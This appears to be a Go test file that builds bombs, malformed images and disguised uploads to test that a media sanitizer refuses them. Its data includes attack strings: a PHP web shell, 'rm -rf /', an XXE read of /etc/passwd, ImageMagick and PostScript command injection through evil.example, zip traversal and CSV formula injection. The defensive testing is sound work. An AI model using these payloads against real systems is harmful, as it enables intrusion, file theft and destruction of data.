package media_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"meixu/app/engine/media"
)

// evil is a word that stands in every hostile file and must be found nowhere afterwards.
const evil = "EVIL-PAYLOAD-7319"

// script is what a polyglot carries.
const script = "<script>alert('" + evil + "')</script>"

// wish is what must become of a file.
type wish int

const (
	either wish = iota // whichever: but clean when it is kept
	mustRefuse
	mustKeep
)

// hostile is one file of the corpus.
type hostile struct {
	what, name string
	body       []byte
	want       wish
	more       int // zeros that follow the body
}

// corpus is every hostile file, made here so that none lies in the tree.
func corpus(t *testing.T) (list []hostile) {
	t.Helper()
	for _, part := range []func(*testing.T) []hostile{
		pngBombs, jpegBombs, otherBombs, disguised, polyglots, metadata, truncated, named,
	} {
		list = append(list, part(t)...)
	}
	return list
}

func photo(t *testing.T) []byte {
	t.Helper()
	m := image.NewRGBA(image.Rect(0, 0, 96, 64))
	for y := range 64 {
		for x := range 96 {
			m.Set(x, y, color.RGBA{uint8(2 * x), uint8(3 * y), 90, 255})
		}
	}
	var out bytes.Buffer
	require.NoError(t, jpeg.Encode(&out, m, nil))
	return out.Bytes()
}

func drawing(t *testing.T) []byte {
	t.Helper()
	m := image.NewNRGBA(image.Rect(0, 0, 64, 48))
	for i := range m.Pix {
		m.Pix[i] = uint8(i * 7)
	}
	var out bytes.Buffer
	require.NoError(t, png.Encode(&out, m))
	return out.Bytes()
}

func chunk(name string, body []byte) []byte {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	out = append(append(out, name...), body...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[4:]))
}

// pngHead is the beginning of a PNG; depth and kind as in its standard.
func pngHead(wide, tall uint32, depth, kind, interlace byte) []byte {
	head := binary.BigEndian.AppendUint32(nil, wide)
	head = append(binary.BigEndian.AppendUint32(head, tall), depth, kind, 0, 0, interlace)
	return append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", head)...)
}

// squeezed is n zero bytes, deflated.
func squeezed(t *testing.T, n int) []byte {
	t.Helper()
	var out bytes.Buffer
	z, err := zlib.NewWriterLevel(&out, zlib.BestSpeed)
	require.NoError(t, err)
	zeros := make([]byte, 1<<16)
	for n > 0 {
		m, err := z.Write(zeros[:min(n, len(zeros))])
		require.NoError(t, err)
		n -= m
	}
	require.NoError(t, z.Close())
	return out.Bytes()
}

func pngBombs(t *testing.T) (list []hostile) {
	t.Helper()
	for _, b := range []struct {
		wide, tall  uint32
		depth, kind byte
		interlace   byte
	}{
		{65535, 65535, 8, 2, 0},
		{50000, 50000, 1, 0, 0},
		{1 << 31, 1 << 31, 8, 6, 0},
		{12001, 1, 8, 2, 0},
		{1, 12001, 8, 0, 0},
		{0, 0, 8, 2, 0},
		{0, 5000, 8, 2, 0},
		{7000, 7000, 16, 6, 0},
		{7000, 7000, 8, 6, 1},
		{12000, 4100, 16, 2, 1},
		{7070, 7070, 8, 6, 0},
		{7000, 7000, 16, 0, 1},
		{6000, 6000, 16, 4, 0},
	} {
		head := pngHead(b.wide, b.tall, b.depth, b.kind, b.interlace)
		list = append(list, hostile{
			what: fmt.Sprintf("PNG of %d×%d, depth %d kind %d interlace %d, without data", b.wide, b.tall, b.depth, b.kind, b.interlace),
			name: "photo.png", body: append(head, chunk("IDAT", nil)...), want: mustRefuse,
		})
	}
	end := chunk("IEND", nil)
	whole := func(what string, want wish, parts ...[]byte) {
		list = append(list, hostile{what: what, name: "photo.png", body: bytes.Join(parts, nil), want: want})
	}
	whole("PNG of 49 megapixels in a few kilobytes", either, pngHead(7000, 7000, 1, 0, 0), chunk("IDAT", squeezed(t, 7000*(1+875))), end)
	whole("PNG of 100×100 with 300 MB behind its pixels", mustRefuse, pngHead(100, 100, 8, 0, 0), chunk("IDAT", squeezed(t, 300<<20)), end)
	whole("PNG with 200 MB of squeezed text", either, pngHead(10, 10, 8, 0, 0), chunk("zTXt", append([]byte("c\x00\x00"), squeezed(t, 200<<20)...)),
		chunk("IDAT", squeezed(t, 110)), end)
	whole("PNG with 200 MB of colour profile", either, pngHead(10, 10, 8, 0, 0), chunk("iCCP", append([]byte("c\x00\x00"), squeezed(t, 200<<20)...)),
		chunk("IDAT", squeezed(t, 110)), end)
	whole("PNG with a hundred thousand chunks", mustRefuse, pngHead(10, 10, 8, 0, 0), bytes.Repeat(chunk("tEXt", []byte("a\x00b")), 100_000),
		chunk("IDAT", squeezed(t, 110)), end)
	whole("PNG whose chunk says it is 4 GB long", mustRefuse, pngHead(10, 10, 8, 0, 0), []byte("\xff\xff\xff\xffIDATxx"))
	whole("PNG with a wrong checksum", mustRefuse, pngHead(10, 10, 8, 0, 0), []byte("\x00\x00\x00\x01IDATx\x00\x00\x00\x00"), end)
	whole("PNG with two headers", mustRefuse, pngHead(10, 10, 8, 0, 0), pngHead(60000, 60000, 8, 6, 0)[8:], chunk("IDAT", squeezed(t, 110)), end)
	whole("PNG with a palette beyond its depth", mustRefuse, pngHead(10, 10, 1, 3, 0), chunk("PLTE", make([]byte, 768)), chunk("IDAT", squeezed(t, 30)), end)
	whole("PNG without a palette", mustRefuse, pngHead(10, 10, 8, 3, 0), chunk("IDAT", squeezed(t, 110)), end)
	return list
}

// frame is a JPEG's beginning with a frame header; sof 0xC0 is plain, 0xC2 progressive.
func frame(sof byte, wide, tall uint16, sampling ...byte) []byte {
	out := append([]byte{0xFF, 0xD8, 0xFF, 0xDB, 0, 67, 0}, bytes.Repeat([]byte{1}, 64)...)
	out = binary.BigEndian.AppendUint16(append(out, 0xFF, sof), uint16(8+3*len(sampling)))
	out = binary.BigEndian.AppendUint16(append(out, 8), tall)
	out = append(binary.BigEndian.AppendUint16(out, wide), byte(len(sampling)))
	for i, s := range sampling {
		out = append(out, byte(i+1), s, 0)
	}
	return out
}

// table is a Huffman table with the one code 0 for the value.
func table(class, value byte) []byte {
	return append(append([]byte{0xFF, 0xC4, 0, 20, class, 1}, make([]byte, 15)...), value)
}

// flatJPEG is a grey picture of any size in little room, as cameras lay it out: every block of
// brightness and hue is the code 0, which says "no difference, no detail".
func flatJPEG(wide, tall int) []byte {
	out := frame(0xC0, uint16(wide), uint16(tall), 0x22, 0x11, 0x11)
	out = append(append(out, table(0x00, 0)...), table(0x10, 0)...)
	out = append(out, 0xFF, 0xDA, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 63, 0)
	blocks := (wide + 15) / 16 * ((tall + 15) / 16) * 6
	out = append(out, make([]byte, 2*blocks/8+1)...)
	return append(out, 0xFF, 0xD9)
}

func jpegBombs(t *testing.T) (list []hostile) {
	t.Helper()
	three := []byte{0x11, 0x11, 0x11}
	for what, body := range map[string][]byte{
		"JPEG of 65535×65535":                           frame(0xC0, 65535, 65535, 0x22, 0x11, 0x11),
		"JPEG of 65500×1":                               frame(0xC0, 65500, 1, 0x11),
		"JPEG of 0×0":                                   frame(0xC0, 0, 0, 0x11),
		"JPEG of 100×0":                                 frame(0xC0, 100, 0, 0x11),
		"progressive JPEG of 49 megapixels":             frame(0xC2, 7000, 7000, three...),
		"progressive JPEG of 49 megapixels, halved":     frame(0xC2, 7000, 7000, 0x22, 0x11, 0x11),
		"JPEG of 49 megapixels in four colours":         frame(0xC0, 7000, 7000, 0x11, 0x11, 0x11, 0x11),
		"JPEG with five components":                     frame(0xC0, 100, 100, 0x11, 0x11, 0x11, 0x11, 0x11),
		"JPEG sampled 15 times":                         frame(0xC0, 7000, 7000, 0xFF, 0x11, 0x11),
		"JPEG sampled 0 times":                          frame(0xC0, 100, 100, 0x00),
		"JPEG of two frames":                            append(frame(0xC0, 10, 10, three...), frame(0xC0, 7000, 7000, three...)[71:]...),
		"lossless JPEG":                                 frame(0xC3, 100, 100, three...),
		"arithmetic JPEG":                               frame(0xC9, 100, 100, three...),
		"JPEG with a segment of no length":              {0xFF, 0xD8, 0xFF, 0xE0, 0, 0},
		"JPEG of filling only":                          append([]byte{0xFF, 0xD8}, bytes.Repeat([]byte{0xFF}, 1<<20)...),
		"JPEG with a table longer than its segment":     {0xFF, 0xD8, 0xFF, 0xC4, 0, 4, 0, 255, 0xFF, 0xD9},
		"JPEG that begins with its data":                {0xFF, 0xD8, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0},
		"JPEG with a thousand passes":                   passes(1000),
		"JPEG of 4 megapixels with ten thousand passes": passes(10_000),
	} {
		list = append(list, hostile{what: what, name: "photo.jpg", body: body, want: mustRefuse})
	}
	return append(list,
		hostile{"JPEG with eight passes", "photo.jpg", passes(8), mustKeep, 0},
		hostile{"JPEG of 48 megapixels in 100 KB", "photo.jpg", flatJPEG(8064, 6048), mustKeep, 0},
		hostile{"JPEG of 12000×4000", "photo.jpg", flatJPEG(12000, 4000), mustKeep, 0},
		hostile{"JPEG longer than an upload may be", "photo.jpg", photo(t), mustRefuse, media.MaxBytes},
		hostile{"JPEG with 2 MB of comments and 18 MB behind it", "photo.jpg", inserted(photo(t), bytes.Repeat(segment(0xFE, bytes.Repeat([]byte(evil), 3000)), 40)), mustKeep, 18 << 20},
	)
}

// passes is a progressive picture that is walked again and again.
func passes(n int) []byte {
	out := append(frame(0xC2, 2000, 2000, 0x11), table(0x00, 0)...)
	out = append(out, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0, 0)
	out = append(out, make([]byte, 250*250/8+1)...)
	out = append(out, table(0x10, 0xE0)...) // an end of band that spans many blocks
	scan := append([]byte{0xFF, 0xDA, 0, 8, 1, 1, 0, 1, 63, 0}, make([]byte, 40)...)
	return append(append(out, bytes.Repeat(scan, n)...), 0xFF, 0xD9)
}

func webp(kind string, body []byte) []byte {
	out := binary.LittleEndian.AppendUint32([]byte("RIFF"), uint32(12+len(body)))
	out = binary.LittleEndian.AppendUint32(append(append(out, "WEBP"...), kind...), uint32(len(body)))
	return append(out, body...)
}

// lossless is the head of a WebP without loss.
func lossless(wide, tall uint32) []byte {
	return append([]byte{0x2F}, binary.LittleEndian.AppendUint32(nil, (wide-1)|(tall-1)<<14)...)
}

// canvas is the head of an extended WebP.
func canvas(flags byte, wide, tall uint32) []byte {
	w, h := wide-1, tall-1
	return []byte{flags, 0, 0, 0, byte(w), byte(w >> 8), byte(w >> 16), byte(h), byte(h >> 8), byte(h >> 16)}
}

func otherBombs(t *testing.T) (list []hostile) {
	t.Helper()
	gif := func(wide, tall uint16) []byte {
		out := binary.LittleEndian.AppendUint16([]byte("GIF89a"), wide)
		return append(binary.LittleEndian.AppendUint16(out, tall), 0x80, 0, 0, 0, 0, 0, 255, 255, 255, ';')
	}
	inner := func(head []byte, kind string, body []byte) []byte {
		out := webp("VP8X", head)
		out = binary.LittleEndian.AppendUint32(append(out, kind...), uint32(len(body)))
		out = append(out, body...)
		binary.LittleEndian.PutUint32(out[4:], uint32(len(out)-8))
		return out
	}
	lossy := func(wide, tall uint16) []byte {
		out := append([]byte{0x10, 0, 0}, 0x9D, 0x01, 0x2A)
		out = binary.LittleEndian.AppendUint16(out, wide)
		return append(binary.LittleEndian.AppendUint16(out, tall), make([]byte, 64)...)
	}
	for what, body := range map[string][]byte{
		"GIF of 65535×65535":                        gif(65535, 65535),
		"GIF of one pixel":                          gif(1, 1),
		"GIF of no size":                            gif(0, 0),
		"WebP without loss of 16384×16384":          webp("VP8L", lossless(16384, 16384)),
		"WebP without loss of 7000×7000":            webp("VP8L", lossless(7000, 7000)),
		"WebP of 16383×16383":                       webp("VP8 ", lossy(16383, 16383)),
		"WebP of 0×0":                               webp("VP8 ", lossy(0, 0)),
		"WebP with a canvas of 16 million by one":   inner(canvas(0, 1<<24, 1), "VP8L", lossless(1, 1)),
		"WebP of a small canvas and a huge frame":   inner(canvas(0, 10, 10), "VP8L", lossless(16384, 16384)),
		"WebP of a small canvas and a huge picture": inner(canvas(0, 10, 10), "VP8 ", lossy(16383, 16383)),
		"WebP of a huge alpha plane":                inner(canvas(0x10, 7000, 7000), "ALPH", []byte{1}),
		"WebP with a raw alpha plane that is short": inner(canvas(0x10, 5000, 5000), "ALPH", []byte{0, 1, 2}),
		"WebP whose length lies":                    []byte("RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\x7f\x2f"),
		"WebP without a chunk":                      []byte("RIFF\x04\x00\x00\x00WEBP"),
		"BMP of 65535×65535":                        append([]byte("BM"), make([]byte, 100)...),
		"TIFF":                                      append([]byte("II*\x00\x08\x00\x00\x00"), make([]byte, 100)...),
		"HEIC":                                      append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 100)...),
		"AVIF":                                      append([]byte("\x00\x00\x00\x18ftypavif"), make([]byte, 100)...),
		"ICO":                                       append([]byte("\x00\x00\x01\x00\x01\x00"), make([]byte, 100)...),
	} {
		list = append(list, hostile{what: what, name: "photo.webp", body: body, want: mustRefuse})
	}
	return list
}

// disguised are files of other kinds with the name of a picture.
func disguised(t *testing.T) (list []hostile) {
	t.Helper()
	for what, text := range map[string]string{
		"an empty file": "", "one byte": "\xff", "blanks": "    ", "zeros": strings.Repeat("\x00", 4096),
		"HTML":                      "<!doctype html>" + script,
		"HTML with a byte mark":     "\ufeff<html>" + script,
		"SVG with a script":         `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('` + evil + `')"/>`,
		"SVG that reads a file":     `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
		"XML of a billion laughs":   `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>`,
		"ImageMagick's MVG":         "push graphic-context\nfill 'url(https://evil.example/x.jpg\"|id\")'\npop graphic-context",
		"PostScript":                "%!PS\nuserdict /setpagedevice undef\n{ null restore } stopped (%pipe%id) (w) file",
		"PDF":                       "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
		"PHP":                       "<?php system($_GET['c']); // " + evil,
		"a shell script":            "#!/bin/sh\nrm -rf /\n",
		"a Windows program":         "MZ\x90\x00\x03" + strings.Repeat("\x00", 200),
		"a Linux program":           "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200),
		"zip":                       "PK\x03\x04\x14\x00\x00\x00" + strings.Repeat("\x00", 60) + "../../evil",
		"gzip":                      "\x1f\x8b\x08\x00\x00\x00\x00\x00",
		"a database":                "SQLite format 3\x00" + strings.Repeat("\x00", 100),
		"a shortcut":                "[InternetShortcut]\nURL=file://evil/share",
		"EICAR":                     `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`,
		"the magic of JPEG, HTML":   "\xff\xd8\xff\xe0" + script,
		"the magic of PNG, HTML":    "\x89PNG\r\n\x1a\n" + script,
		"the magic of GIF, JS":      "GIF89a=1;alert('" + evil + "')",
		"the magic of BMP, JS":      "BM=1;alert('" + evil + "')",
		"the magic of WebP, HTML":   "RIFF\x00\x01\x00\x00WEBPVP8 " + script,
		"CSV with a formula":        "=cmd|' /C calc'!A0",
		"base64 of a picture":       "data:image/png;base64,iVBORw0KGgo=",
		"a page in UTF-16":          "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
		"text of ten thousand 0xFF": strings.Repeat("\xff", 10_000),
	} {
		list = append(list, hostile{"as jpg: " + what, "photo.jpg", []byte(text), mustRefuse, 0})
	}
	return list
}
